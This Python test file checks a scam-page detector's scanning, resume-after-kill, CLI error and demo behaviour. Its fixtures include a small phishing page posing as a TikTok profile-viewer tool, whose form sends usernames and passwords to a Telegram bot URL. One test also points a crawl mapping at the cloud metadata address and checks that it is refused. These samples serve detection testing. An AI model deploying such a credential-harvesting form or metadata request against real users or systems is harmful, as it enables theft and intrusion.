"""Batch scans: inputs, crawl + score + store, resume after SIGKILL and Ctrl-C, CLI faults, demo."""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from pytest_httpserver import HTTPServer

from detector.cli import main
from detector.config import Settings
from detector.demo import LocalSite, split_sample
from detector.scan import Scanner, read_inputs
from detector.scan.inputs import Rejected
from detector.store import StoreError, open_store
from tests.conftest import ROOT

SCAM_HTML = (
    "<html><body><h1>See who viewed your TikTok profile!</h1>"
    "<form action='https://api.telegram.org/bot123:abc/sendMessage'>"
    "<input name=username><input type=password name=pw><button>Reveal viewers</button>"
    "</form></body></html>"
)
PLAIN_HTML = "<html><body><h1>Opening hours</h1><p>We bake bread every morning.</p></body></html>"


def _rows(n: int) -> list[dict[str, Any]]:
    return [
        {
            "id": f"row-{i}",
            "url": f"https://site{i % 7}.example/p{i}",
            "html": SCAM_HTML if i % 2 else PLAIN_HTML,
        }
        for i in range(n)
    ]


def _write_jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _verdict_rows(store: Path | str) -> list[tuple[str, str]]:
    if not str(store).startswith("postgresql:"):
        with sqlite3.connect(store) as db:
            return db.execute("SELECT input_key, created_at FROM verdicts").fetchall()
    with open_store(store) as opened:
        rows = opened._db.execute("SELECT input_key, created_at FROM verdicts").fetchall()  # type: ignore[attr-defined]
        return [tuple(r) for r in rows]


# -- inputs ------------------------------------------------------------------------------------


def test_inputs_of_every_kind_with_bad_rows_and_duplicates(tmp_path: Path) -> None:
    txt = tmp_path / "urls.txt"
    txt.write_text("# comment\nhttps://A.example/x\nhttps://a.example/x#frag\n\nhttp://b.example\n")
    assert [k for k, _ in read_inputs(txt)] == [
        "https://a.example/x",
        "https://a.example/x",
        "http://b.example/",
    ]
    csv_path = tmp_path / "in.csv"
    csv_path.write_text("URL,source\nhttps://c.example/,ads\n,empty\n")
    rows = list(read_inputs(csv_path))
    assert json.loads(rows[0][1]) == {
        "url": "https://c.example/",
        "csv_row": 2,
        "input": {"source": "ads"},
    }
    assert isinstance(rows[1], Rejected) and rows[1].problem == "line 3: empty url"
    assert rows[1].key == "line:3" and json.loads(rows[1].raw)["input"] == {"source": "empty"}
    jl = tmp_path / "in.jsonl"
    jl.write_text('{"id": 1, "url": "https://d.example/"}\nnot json\n[1, 2]\n')
    keys = [k for k, _ in read_inputs(jl)]
    assert keys == ["id:1", "line:2", "line:3"]
    no_url = tmp_path / "bad.csv"
    no_url.write_text("link\nhttps://e.example/\n")
    with pytest.raises(Exception, match="url"):
        list(read_inputs(no_url))


def test_progress_bar_only_on_a_terminal() -> None:
    import io

    from detector.scan import Progress

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    tty, pipe = Tty(), io.StringIO()
    for stream in (tty, pipe):
        bar = Progress(3, stream)
        for _ in range(3):
            bar.step()
        bar.close()
    assert "3/3" in tty.getvalue() and "[" in tty.getvalue()
    assert pipe.getvalue() == ""


# -- scanning ------------------------------------------------------------------------------------


@pytest.fixture
def site(httpserver: HTTPServer) -> HTTPServer:
    httpserver.expect_request("/robots.txt").respond_with_data("User-agent: *\nAllow: /\n")
    httpserver.expect_request("/scam").respond_with_data(SCAM_HTML, content_type="text/html")
    httpserver.expect_request("/plain").respond_with_data(PLAIN_HTML, content_type="text/html")
    return httpserver


def test_scan_crawls_scores_and_records_each_input_once(
    tmp_path: Path, site: HTTPServer, shipped: Any
) -> None:
    urls = [site.url_for("/scam"), site.url_for("/plain"), site.url_for("/plain")]
    urls.append("http://127.0.0.1:9/unreachable")  # discard port: nothing listens
    src = tmp_path / "urls.txt"
    src.write_text("\n".join(urls) + "\nnot a url\n")
    settings = Settings(
        allow_loopback=True, per_host_delay=0.0, retries=0, offline=True, obey_robots=False
    )
    with open_store(tmp_path / "s.sqlite") as store:
        summary = Scanner(shipped, store, settings).run(src, "r1", progress=False)
        verdicts = {v.url: v for v in store.verdicts(summary.run_id)}
        stats = store.run_stats(summary.run_id)
    assert summary.duplicates == 1 and summary.inputs == 4 and summary.unfetched == 1
    assert stats["done"] == 3 and stats["failed"] == 1 and stats["pending"] == 0
    assert verdicts[site.url_for("/scam")].label in ("scam", "suspicious")
    assert verdicts[site.url_for("/plain")].label == "benign"
    dead = verdicts["http://127.0.0.1:9/unreachable"]  # scored from the URL alone
    assert dead.error is None and dead.score is not None
    assert "not a url" in verdicts and verdicts["not a url"].error.startswith("fetch.invalid_url")


def test_cli_scan_exit_codes_outputs_and_resume(tmp_path: Path, shipped: Any) -> None:
    src = _write_jsonl(tmp_path / "in.jsonl", _rows(12))
    store, out = tmp_path / "s.sqlite", tmp_path / "out" / "v.csv"
    args = ["scan", "--input", str(src), "--store", str(store), "--output", str(out)]
    assert main([*args, "--report", str(tmp_path / "r.html")]) == 0
    assert len(out.read_text().splitlines()) == 13  # header + 12
    assert "<table" in (tmp_path / "r.html").read_text()
    first = sorted(_verdict_rows(store))
    assert main(args) == 0  # same run again: nothing rescored
    assert sorted(_verdict_rows(store)) == first
    with src.open("a") as fh:
        fh.write("{broken\n")
    assert main(args) == 1  # the new bad row is recorded as failed
    assert len(_verdict_rows(store)) == 13


def test_cli_usage_and_fault_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = _write_jsonl(tmp_path / "in.jsonl", _rows(2))
    assert main(["scan", "--input", str(tmp_path / "missing.txt")]) == 2
    blocker = tmp_path / "file"
    blocker.write_text("x")
    bad_out = ["scan", "--input", str(src), "--output", str(blocker / "v.jsonl")]
    assert main([*bad_out, "--store", str(tmp_path / "s.sqlite")]) == 2
    corrupt = tmp_path / "corrupt.sqlite"
    corrupt.write_bytes(b"this is not a database" * 100)
    assert main(["scan", "--input", str(src), "--store", str(corrupt)]) == 2
    no_url = tmp_path / "bad.csv"
    no_url.write_text("link\nhttps://e.example/\n")
    assert main(["scan", "--input", str(no_url), "--store", str(tmp_path / "t.sqlite")]) == 2
    assert main(["scan", "--input", str(src), "--connect-to", "nonsense"]) == 2
    err = capsys.readouterr().err
    assert "no such file" in err and "corrupt.sqlite" in err and "url" in err
    assert "connect_to" in err
    assert main(["report", "nope", "--store", str(tmp_path / "none.sqlite")]) == 2


def _scan_cmd(src: Path, store: Path | str) -> list[str]:
    return [sys.executable, "-m", "detector.cli", "scan", "--input", str(src), "--store", str(store),
            "--run", "big", "--batch-size", "8", "--quiet"]  # fmt: skip


def _wait_for_progress(store: Path | str, proc: subprocess.Popen[bytes], at_least: int) -> int:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            n = len(_verdict_rows(store))
        except (sqlite3.Error, StoreError):
            n = 0
        if n >= at_least:
            return n
        time.sleep(0.05)
    pytest.fail(f"scan did not get going (exit {proc.poll()})")


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGINT])
def test_killed_scan_resumes_and_scores_every_input_once(
    tmp_path: Path, sig: int, store_url: str
) -> None:
    total = 1500
    src = _write_jsonl(tmp_path / "in.jsonl", _rows(total))
    store = store_url
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(_scan_cmd(src, store), env=env, stderr=subprocess.PIPE, cwd=tmp_path)
    _wait_for_progress(store, proc, 50)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=60)
    before = dict(_verdict_rows(store))
    assert 0 < len(before) < total, "the kill should land mid-run"
    if sig == signal.SIGINT:
        assert proc.returncode == 130 and b"resume" in err
    done = subprocess.run(_scan_cmd(src, store), env=env, capture_output=True, cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    after = _verdict_rows(store)
    assert len(after) == total == len({k for k, _ in after})
    assert {k: t for k, t in after if k in before} == before  # nothing rescored


# -- demo ----------------------------------------------------------------------------------------


def test_local_site_routes_by_host_and_serves_robots(tmp_path: Path) -> None:
    inputs, pages = split_sample(
        [
            {"id": "a", "url": "https://Lure.example/v?x=1", "html": SCAM_HTML},
            {"id": "b", "kind": "ad", "text": "see viewers", "url": ""},
            {"id": "c", "url": "https://plain.example/", "html": PLAIN_HTML},
        ]
    )
    assert inputs[0] == {"id": "a", "url": "http://lure.example/v?x=1"} and inputs[1]["id"] == "b"
    from detector.crawl import fetch

    with LocalSite(pages) as site:
        s = Settings(allow_loopback=True, connect_to=site.connect_to(), per_host_delay=0.0)
        assert "who viewed" in (fetch("http://lure.example/v?x=1", s).html or "")
        assert "bread" in (fetch("http://plain.example/", s).html or "")
        assert fetch("http://plain.example/missing", s).status == 404
        assert fetch("http://unmapped.example/", s.replace(offline=True)).error
        sealed = s.replace(connect_to_only=True)
        assert fetch("http://plain.example/", sealed).status == 200
        assert fetch("https://unmapped.example/", sealed).error == "fetch.blocked_address"
        # a mapping never bypasses the guard: loopback still needs allow_loopback
        refused = fetch("http://lure.example/v?x=1", s.replace(allow_loopback=False))
        assert refused.error == "fetch.blocked_address" and refused.html is None
        metadata = s.replace(connect_to="lure.example:80:169.254.169.254:80")
        assert fetch("http://lure.example/v?x=1", metadata).error == "fetch.blocked_address"


def test_demo_scans_the_bundled_sample_like_the_offline_scorer(
    tmp_path: Path, shipped: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    sample = ROOT / "data" / "samples" / "demo.jsonl"
    assert main(["demo", "--input", str(sample), "--out", str(tmp_path), "--quiet"]) == 0
    printed = capsys.readouterr().out
    assert str(tmp_path / "report.html") in printed
    got = {
        json.loads(line)["id"]: json.loads(line) for line in (tmp_path / "verdicts.jsonl").open()
    }
    rows = [json.loads(line) for line in sample.open()]
    assert len(got) == len(rows)
    crawled = [
        r for r in rows if r.get("kind", "page") == "page" and r.get("url") and r.get("html")
    ]
    assert crawled, "the sample must include pages for the demo server"
    for row in crawled:
        assert got[row["id"]]["error"] is None
        assert got[row["id"]]["label"] == shipped.score(row).label, row["id"]
    with open_store(tmp_path / "demo.sqlite") as store:
        run = store.find_run("demo")
        assert run is not None
        url_only = [
            r
            for r in rows
            if r.get("kind", "page") == "page" and r.get("url") and not r.get("html")
        ]
        errors = []
        for row in url_only:  # never fetched: refused before any DNS look-up, or recorded
            snap = store.snapshot(run["id"], f"id:{row['id']}")
            assert snap is not None and snap.html is None
            errors.append(snap.error)
            assert snap.error == (row.get("error") or "fetch.blocked_address")
        assert "fetch.blocked_address" in errors


def test_disk_full_export_keeps_results_and_says_how_to_rewrite(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import errno

    src = _write_jsonl(tmp_path / "in.jsonl", _rows(5))
    store = tmp_path / "s.sqlite"

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    args = ["scan", "--input", str(src), "--store", str(store), "--run", "r"]
    assert main([*args, "--output", str(tmp_path / "v.jsonl")]) == 2
    err = capsys.readouterr().err
    assert "disk full" in err and "detector export r" in err
    assert not (tmp_path / "v.jsonl").exists() and len(_verdict_rows(store)) == 5
    monkeypatch.undo()
    assert main(["export", "r", "--store", str(store), "--output", str(tmp_path / "v.jsonl")]) == 0
    assert len((tmp_path / "v.jsonl").read_text().splitlines()) == 5


def test_ad_export_scores_ads_and_crawls_their_landing_pages(tmp_path: Path, shipped: Any) -> None:
    fixture = ROOT / "tests" / "fixtures" / "sources" / "meta_ad_library.json"
    export = tmp_path / "ads.json"  # the demo server speaks plain HTTP
    text = fixture.read_text(encoding="utf-8")
    export.write_text(text.replace("https://creator-gear", "http://creator-gear"), "utf-8")
    pages = {
        ("tt-viewers-check.xyz", "/"): SCAM_HTML,  # asked for over https: not served
        ("creator-gear.example", "/sale"): PLAIN_HTML,
    }
    with LocalSite(pages) as site, open_store(tmp_path / "s.sqlite") as store:
        settings = Settings(
            allow_loopback=True, connect_to=site.connect_to(), per_host_delay=0.0, offline=True
        )
        summary = Scanner(shipped, store, settings).run(export, "ads", progress=False)
        landing = store.snapshot(summary.run_id, "http://creator-gear.example/sale")
        dead = store.snapshot(summary.run_id, "https://tt-viewers-check.xyz/")
        kinds = sorted(v.kind or "" for v in store.verdicts(summary.run_id))
    assert summary.inputs == 5 and summary.unfetched == 1 and summary.failed == 0
    assert landing is not None and "bread" in (landing.html or "")
    assert landing.extra["parent_id"] == "2234567890123456"
    assert dead is not None and dead.error and dead.extra["parent_kind"] == "ad"
    assert kinds.count("page") == 2 and kinds.count("ad") == 3


def test_features_are_stored_with_each_verdict_on_every_path(tmp_path: Path, shipped: Any) -> None:
    from detector.extract.features import extract_features, schema_hash
    from detector.scan.executors import process_in_pool

    rows = _rows(4)
    src = _write_jsonl(tmp_path / "in.jsonl", rows)
    with open_store(tmp_path / "s.sqlite") as store:
        run = Scanner(shipped, store, Settings(offline=True)).run(src, "r", progress=False)
        stored = store.features(run.run_id, "id:row-1")
        (hash_,) = store._db.execute("SELECT DISTINCT schema_hash FROM features").fetchone()
    assert stored == json.loads(json.dumps(extract_features(rows[1]), default=str))
    assert hash_ == schema_hash()
    pooled = list(
        process_in_pool(Scanner(shipped, None, Settings()), [("k", json.dumps(rows[1]))], 2)
    )
    assert pooled[0][2].features == stored
    assert "features" not in pooled[0][2].to_dict()  # never part of the verdict contract


def test_second_scan_of_a_running_run_stops_with_a_clear_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"url": "", "html": "<p>hello</p>"}) + "\n")
    store_path = tmp_path / "s.sqlite"
    with open_store(store_path) as holder:
        run_id, _ = holder.create_or_resume_run("r")
        with holder.lock_run(run_id):
            code = main(["scan", "--input", str(src), "--run", "r", "--store", str(store_path)])
            assert code == 2
            assert "being scanned by another process" in capsys.readouterr().err
    assert main(["scan", "--input", str(src), "--run", "r", "--store", str(store_path)]) == 0


def test_sigkill_loses_at_most_the_pages_in_flight(tmp_path: Path, httpserver: HTTPServer) -> None:
    """Fetched pages are recorded as they arrive: a SIGKILL loses only the pages in flight."""
    from werkzeug import Request, Response

    def slow(request: Request) -> Response:
        time.sleep(0.05)
        return Response("<p>a shop page</p>", content_type="text/html")

    httpserver.expect_request("/robots.txt").respond_with_data("User-agent: *\nAllow: /\n")
    total = 60
    for i in range(total):
        httpserver.expect_request(f"/p/{i}").respond_with_handler(slow)
    src = tmp_path / "urls.txt"
    src.write_text("".join(f"http://127.0.0.1:{httpserver.port}/p/{i}\n" for i in range(total)))
    store = tmp_path / "s.sqlite"
    cmd = [sys.executable, "-m", "detector.cli", "scan", "--input", str(src), "--store", str(store),
           "--run", "r", "--quiet", "--per-host-delay", "0", "--global-concurrency", "2",
           "--per-host-concurrency", "2"]  # fmt: skip
    env = {**os.environ, "PYTHONPATH": str(ROOT), "DETECTOR_ALLOW_LOOPBACK": "1"}
    proc = subprocess.Popen(cmd, env=env, stderr=subprocess.PIPE, cwd=tmp_path)
    _wait_for_progress(store, proc, 10)
    proc.kill()
    proc.communicate(timeout=60)
    served = {r.path for r, _ in httpserver.log if r.path.startswith("/p/")}
    recorded = len(_verdict_rows(store))
    assert 10 <= recorded < total
    assert len(served) - recorded <= 4  # the crawler keeps at most 2 x concurrency in its window
    done = subprocess.run(cmd, env=env, capture_output=True, cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    assert len(_verdict_rows(store)) == total
